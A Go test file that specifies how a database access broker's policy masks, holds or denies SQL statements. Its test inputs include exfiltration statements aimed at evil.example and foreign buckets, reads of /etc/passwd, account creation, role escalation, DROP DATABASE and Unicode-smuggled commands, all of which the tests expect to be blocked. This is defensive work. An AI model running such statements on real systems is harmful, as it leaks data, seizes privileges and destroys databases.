package policy

import (
	"slices"
	"testing"

	"github.com/jit-access/jit/policy/sql"
)

// spec states what the shipped bundle does with texts, as the broker sees them.
type spec struct {
	t       *testing.T
	catalog Tables
}

func newSpec(t *testing.T) spec {
	catalog := make(Tables)
	for name, columns := range map[string][]string{
		"CUSTOMERS": {"ID", "NAME", "EMAIL", "PHONE", "SSN", "CITY"},
		"ORDERS":    {"ID", "CUSTOMER_ID", "AMOUNT", "STATUS", "TS"},
	} {
		catalog[sql.ObjectName{Database: "APP", Schema: "PUBLIC", Name: name}] = sql.Relation{Kind: sql.ObjectTable, Columns: columns}
	}
	return spec{t, catalog}
}

func (s spec) check(text string, verdict Verdict, rule string, approvals int, masked ...string) {
	s.t.Helper()
	x := Default().Explain(text, Input{Subject: ana(), Setting: prod()}, s.catalog)
	r := x.Ruling
	if r.Verdict != verdict || rule != "" && r.Rule != rule || r.Approvals != approvals {
		s.t.Errorf("%s\ngot %v by %s, %d approvals (%s)\nwant %v by %s, %d approvals", text, r.Verdict, r.Rule, r.Approvals, r.Reason, verdict, rule, approvals)
	}
	if got := x.Masked(); verdict == Allow && !slices.Equal(got, masked) {
		s.t.Errorf("%s\nmasked %v, want %v", text, got, masked)
	}
}

func (s spec) allow(text string) { s.t.Helper(); s.check(text, Allow, "", 0) }
func (s spec) mask(text string, cols ...string) {
	s.t.Helper()
	s.check(text, Allow, "reads", 0, cols...)
}
func (s spec) hold(text, rule string) { s.t.Helper(); s.check(text, Hold, rule, 1) }
func (s spec) two(text, rule string)  { s.t.Helper(); s.check(text, Hold, rule, 2) }
func (s spec) deny(text, rule string) { s.t.Helper(); s.check(text, Deny, rule, 0) }

func TestReadsRunMasked(t *testing.T) {
	s := newSpec(t)
	s.allow("SELECT 1")
	s.allow("SELECT CURRENT_TIMESTAMP(), CURRENT_ROLE()")
	s.allow("SELECT COUNT(*) FROM customers")
	s.allow("SELECT id, city FROM customers WHERE id = ?")
	s.allow("SELECT status, SUM(amount) FROM orders GROUP BY status ORDER BY 2 DESC LIMIT 10")
	s.allow("SELECT 1; SELECT 2")
	s.allow("WITH x AS (SELECT 1 AS email) SELECT email FROM x")
	s.mask("SELECT * FROM customers", "EMAIL", "PHONE", "SSN")
	s.mask("SELECT email AS city FROM customers", "CITY")
	s.mask("SELECT id, UPPER(email) AS e, LENGTH(ssn) AS n FROM customers", "E", "N")
	s.mask("SELECT AVG(LENGTH(email)) FROM customers", "$1")
	s.allow("SELECT city, COUNT(email) AS n, COUNT(DISTINCT phone) AS d FROM customers GROUP BY city")
	s.mask("SELECT COUNT(DISTINCT ssn) AS n FROM customers", "N")
	s.mask("SELECT COUNT(DISTINCT e) AS n FROM (SELECT email AS e FROM customers WHERE id = 7 UNION ALL SELECT 'guess')", "N")
	s.mask("SELECT COUNT(DISTINCT e) AS n FROM (SELECT email AS e FROM customers UNION ALL SELECT status FROM orders)", "N")
	s.mask("SELECT COUNT(DISTINCT email || city) AS n FROM customers", "N")
	s.mask("SELECT COUNT(email) || MAX(email) AS n FROM customers", "N")
	s.mask("SELECT COUNT_IF(email = 'a') AS n FROM customers", "N")
	s.mask("SELECT COUNT(IFF(email LIKE 'a%', 1, NULL)) AS n FROM customers", "N")
	s.mask("SELECT IFF(email LIKE 'a%', 1, 0) AS b FROM customers", "B")
	s.mask("SELECT (SELECT MAX(email) FROM customers) AS m FROM orders", "M")
	s.mask("SELECT email FROM customers UNION ALL SELECT status FROM orders", "EMAIL")
	s.mask("SELECT email FROM customers; SELECT 1", "EMAIL")
}

// A failing conversion quotes the value in its error text, whether or not the
// converted value would ever have been selected.
func TestErrorTextsOfWhateverReadsAClassAreScrubbed(t *testing.T) {
	s := newSpec(t)
	for text, want := range map[string]bool{
		"SELECT id FROM (SELECT id, MAX(TO_NUMBER(ssn)) x FROM customers GROUP BY id)":                                                             true,
		"SELECT COUNT(*) FROM (SELECT TO_NUMBER(email) x FROM customers)":                                                                          true,
		"SELECT * EXCLUDE x FROM (SELECT id, TO_NUMBER(email) x FROM customers)":                                                                   true,
		"SELECT COUNT(*) FROM (SELECT id, email FROM customers UNION ALL SELECT 1, 2)":                                                             true,
		"SELECT id FROM customers; SELECT COUNT(*) FROM (SELECT TO_NUMBER(email) FROM customers)":                                                  true,
		"INSERT INTO orders (id) SELECT COUNT(*) FROM (SELECT TO_NUMBER(email) x FROM customers)":                                                  true,
		"SELECT 1 FROM customers MATCH_RECOGNIZE (ORDER BY id MEASURES TO_NUMBER(a.email) AS m PATTERN (a) DEFINE a AS 1 = 1)":                     true,
		"WITH RECURSIVE r AS (SELECT id, TO_NUMBER(email) n FROM customers UNION ALL SELECT id + 1, n FROM r WHERE id < 3) SELECT COUNT(*) FROM r": true,
		"SELECT TO_NUMBER(status) FROM orders":                                                                                                     false,
		"SELECT COUNT(*) FROM customers":                                                                                                           false,
		"SELECT TO_NUMBER(city), id FROM customers":                                                                                                false,
	} {
		x := Default().Explain(text, Input{Subject: ana(), Setting: prod()}, s.catalog)
		if got := x.Ruling.ReadsClassed; got != want {
			t.Errorf("%s\nreads classed: %v, want %v", text, got, want)
		}
	}
}

func TestHousekeepingRuns(t *testing.T) {
	s := newSpec(t)
	for _, text := range []string{
		"SHOW TABLES", "SHOW TERSE SCHEMAS", "SHOW WAREHOUSES", "DESCRIBE TABLE customers", "DESC TABLE orders",
		"EXPLAIN SELECT id FROM orders", "LIST @~", "BEGIN", "COMMIT", "ROLLBACK", "USE DATABASE app", "USE SCHEMA public",
		"USE WAREHOUSE wh", "USE ROLE analyst", "SET x = 1", "UNSET x", "ALTER SESSION SET TIMEZONE = 'UTC'",
		"ALTER SESSION SET QUERY_TAG = 'report'", "ALTER SESSION UNSET QUERY_TAG",
	} {
		s.allow(text)
	}
}

func TestInferenceIsHeld(t *testing.T) {
	s := newSpec(t)
	for _, text := range []string{
		"SELECT id FROM customers WHERE email = 'a@b.c'",
		"SELECT id FROM customers ORDER BY email",
		"SELECT DISTINCT email FROM customers",
		"SELECT email, COUNT(*) FROM customers GROUP BY email",
		"SELECT c.id FROM customers c JOIN customers d ON c.email = d.email",
		"SELECT id FROM customers QUALIFY ROW_NUMBER() OVER (ORDER BY ssn) = 1",
		"SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM customers WHERE email LIKE 'a%')",
		"SELECT COUNT(*) FROM customers WHERE SUBSTR(ssn, 1, 1) = '1'",
		"SELECT id FROM customers MINUS SELECT id FROM customers WHERE email LIKE 'a%'",
		"EXPLAIN SELECT id FROM customers WHERE email = 'a'",
		"DELETE FROM orders USING customers c WHERE c.email = 'a'",
	} {
		s.hold(text, "classified-predicates")
	}
}

func TestWhatIsNotUnderstoodIsHeld(t *testing.T) {
	s := newSpec(t)
	s.hold("SELECT * FROM nowhere.at.all", "unnamed-data")
	s.hold("SELECT $x", "unnamed-data")
	s.hold("SELECT * FROM IDENTIFIER(?)", "unnamed-data")
	s.hold("SELECT my_function(id) FROM orders", "unknown-functions")
	s.hold("SELECT GET_DDL('TABLE', 'customers')", "system-functions")
	s.hold("SELECT * FROM TABLE(RESULT_SCAN('01b2'))", "system-functions")
	s.hold("FOO BAR", "unclear")
	s.hold("SHOW VARIABLES", "unclear")
	s.hold("ALTER SESSION SET SEARCH_PATH = 'x'", "unclear")
	s.hold("ALTER SESSION SET MULTI_STATEMENT_COUNT = 0", "unclear")
	s.hold("SHOW TABLES ->> SELECT * FROM $1", "unnamed-data")
}

func TestChangesAreHeld(t *testing.T) {
	s := newSpec(t)
	s.hold("INSERT INTO orders (id) VALUES (1)", "writes")
	s.hold("UPDATE customers SET city = email", "copies")
	s.hold("INSERT INTO orders (status) SELECT email FROM customers", "copies")
	s.hold("CREATE TABLE t AS SELECT UPPER(email) AS e FROM customers", "copies")
	s.hold("COPY INTO @ext FROM (SELECT email FROM customers)", "copies")
	s.hold("TRUNCATE TABLE orders", "writes")
	s.hold("MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE", "writes")
	s.hold("SELECT 1; DELETE FROM orders", "writes")
	s.hold("CREATE TABLE t AS SELECT id FROM customers", "definitions")
	s.hold("CREATE OR REPLACE TABLE orders (id INT)", "definitions")
	s.hold("DROP TABLE orders", "definitions")
	s.hold("ALTER WAREHOUSE wh SET WAREHOUSE_SIZE = 'X-LARGE'", "definitions")
	s.hold("COPY INTO orders FROM @~/x", "loads")
	s.hold("COPY INTO @ext FROM (SELECT id FROM customers)", "unloads")
	s.hold("CALL do_things()", "calls")
	s.hold("EXECUTE IMMEDIATE 'SELECT 1'", "scripts")
	s.hold("EXECUTE TASK t", "scripts")
	s.hold("SELECT AI_COMPLETE('m', city) FROM customers", "ai-functions")
	s.hold("SHOW USERS", "people-metadata")
	for _, text := range []string{
		"SHOW GRANTS TO USER me", "SHOW FUTURE GRANTS IN SCHEMA public", "DESC USER bob", "DESCRIBE SHARE s", "SHOW SHARES",
		"DESC INTEGRATION i", "DESC SECURITY INTEGRATION i", "DESC NOTIFICATION INTEGRATION i", "DESCRIBE API INTEGRATION i",
		"DESC STORAGE INTEGRATION i", "DESC EXTERNAL ACCESS INTEGRATION i", "SHOW INTEGRATIONS", "SHOW SECURITY INTEGRATIONS",
		"SHOW API INTEGRATIONS", "SHOW NOTIFICATION INTEGRATIONS", "SHOW STORAGE INTEGRATIONS", "SHOW MANAGED ACCOUNTS",
		"SHOW NETWORK POLICIES", "SHOW NETWORK RULES", "SHOW SECRETS", "SHOW USER PROGRAMMATIC ACCESS TOKENS", "SHOW LISTINGS",
		"SHOW DELEGATED AUTHORIZATIONS",
	} {
		s.hold(text, "people-metadata")
	}
	s.hold("SHOW PARAMETERS FOR USER bob", "user-metadata")
	s.hold("SHOW PARAMETERS LIKE 'x' IN USER bob", "user-metadata")
}

func TestDestructionTakesTwo(t *testing.T) {
	s := newSpec(t)
	s.two("DROP DATABASE app", "drop-database")
	s.two("drop /* all */ database if exists app cascade", "drop-database")
	s.two("DROP SCHEMA app.public", "drop-database")
	s.two("CREATE OR REPLACE SCHEMA app.public", "drop-database")
	s.two("CREATE OR REPLACE DATABASE app CLONE other", "drop-database")
	s.two("EXECUTE IMMEDIATE 'CREATE OR REPLACE SCHEMA app.public'", "drop-database")
	s.two("BEGIN CREATE OR REPLACE DATABASE app; END", "drop-database")
	s.two("BEGIN; DROP DATABASE app; COMMIT", "drop-database")
	s.two("BEGIN DROP DATABASE app; END", "drop-database")
	s.two("EXECUTE IMMEDIATE 'DROP DATABASE app'", "drop-database")
	s.two("CREATE TASK t SCHEDULE = '1 minute' AS DROP DATABASE app", "drop-database")
	s.two("GRANT SELECT ON TABLE orders TO ROLE x", "privileges")
	s.two("GRANT ROLE accountadmin TO USER me", "privileges")
	s.two("REVOKE SELECT ON TABLE orders FROM ROLE x", "privileges")
}

func TestWaysOutAreDenied(t *testing.T) {
	s := newSpec(t)
	s.deny("PUT file:///etc/passwd @~", "client-files")
	s.deny("GET @~/out file:///tmp/", "client-files")
	s.deny("RM @~/x", "client-files")
	s.deny("COPY INTO 's3://elsewhere/x' FROM customers", "leaves-the-account")
	s.deny("COPY INTO 'azure://x/y' FROM customers", "leaves-the-account")
	s.deny("CREATE STAGE st URL = 's3://elsewhere/'", "leaves-the-account")
	s.deny("ALTER SHARE sh ADD ACCOUNTS = other", "shares")
	s.deny("GRANT SELECT ON TABLE orders TO SHARE sh", "shares")
	s.deny("CREATE REPLICATION GROUP g OBJECT_TYPES = DATABASES ALLOWED_DATABASES = app ALLOWED_ACCOUNTS = o.other", "shares")
	s.deny("ALTER DATABASE app ENABLE REPLICATION TO ACCOUNTS o.other", "shares")
	s.deny("ALTER DATABASE IF EXISTS app ENABLE FAILOVER TO ACCOUNTS o.other, o.third IGNORE EDITION CHECK", "shares")
	s.deny("CREATE APPLICATION PACKAGE p", "shares")
	s.deny("ALTER APPLICATION PACKAGE p ADD VERSION v USING '@st/x'", "shares")
	s.deny("CREATE LISTING l AS 'x'", "shares")
	s.deny("CREATE EXTERNAL FUNCTION f(x VARCHAR) RETURNS VARIANT API_INTEGRATION = i AS 'https://evil.example/'", "leaves-the-account")
	s.deny("CREATE OR REPLACE SECURE EXTERNAL FUNCTION f(x VARCHAR) RETURNS VARIANT API_INTEGRATION = i AS $$https://evil.example/$$", "leaves-the-account")
	s.deny("SELECT GET_PRESIGNED_URL(@s, 'x')", "egress-functions")
	s.deny("SELECT SYSTEM$SEND_SNOWFLAKE_NOTIFICATION('x', 'y')", "egress-functions")
	s.deny("CALL SYSTEM$SEND_EMAIL('i', 'x@evil.com', 's', 'b')", "egress-functions")
}

func TestCredentialsAndRolesAreDenied(t *testing.T) {
	s := newSpec(t)
	s.deny("CREATE USER eve PASSWORD = 'x'", "credentials")
	s.deny("ALTER USER me SET RSA_PUBLIC_KEY = 'MII'", "credentials")
	s.deny("ALTER USER me ADD PROGRAMMATIC ACCESS TOKEN t", "credentials")
	s.deny("CREATE SECURITY INTEGRATION i TYPE = OAUTH", "credentials")
	s.deny("CREATE NETWORK POLICY p ALLOWED_IP_LIST = ('0.0.0.0/0')", "credentials")
	s.deny("ALTER ACCOUNT SET NETWORK_POLICY = p", "credentials")
	s.deny("SELECT 1; SELECT 2; CREATE USER eve", "credentials")
	s.deny("BEGIN CREATE USER eve; END", "credentials")
	s.deny("USE ROLE accountadmin", "role-switch")
	s.deny(`USE ROLE "analyst"`, "role-switch")
	s.deny("USE ROLE IDENTIFIER('SYSADMIN')", "role-switch")
	s.deny("USE ROLE $r", "role-switch")
	s.deny("USE SECONDARY ROLES ALL", "role-switch")
}

func TestWhatCannotBeReadIsDenied(t *testing.T) {
	s := newSpec(t)
	for _, text := range []string{"", ";", "-- nothing", "SELECT 'open", "SELECT /* open", "SELECT `x`", "SELECT 1 # x",
		"SELECT 1 -- x\u2028DROP TABLE t", "!source x", "SELECT \u202eliame\u202c FROM customers"} {
		s.deny(text, ruleUnreadable)
	}
}
